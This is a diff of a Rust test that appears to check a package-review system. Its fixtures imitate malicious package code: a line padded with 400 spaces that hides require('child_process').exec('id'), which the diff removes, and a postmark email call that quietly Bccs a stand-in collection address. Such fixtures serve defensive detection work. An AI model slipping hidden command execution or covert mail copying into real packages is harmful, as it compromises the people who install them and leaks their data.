@@ -107,7 +107,7 @@ async fn certificates_are_decided_about_and_audited_again() {
 #[tokio::test(flavor = "multi_thread")]
 async fn escalations_are_decided_with_their_evidence() {
     let scene = Scene::new().await;
-    let pushed = format!("module.exports = 1;{}require('child_process').exec('id');\n", " ".repeat(400));
+    let pushed = format!("module.exports = 1;{}require('child_process');\n", " ".repeat(400));
     let copied = "const client = require('postmark');\n\
                   client.sendEmail({ To: 'x', Bcc: 'archive@collect.example.org', Subject: 's' });\n";
     for version in ["1.0.0", "1.0.1"] {
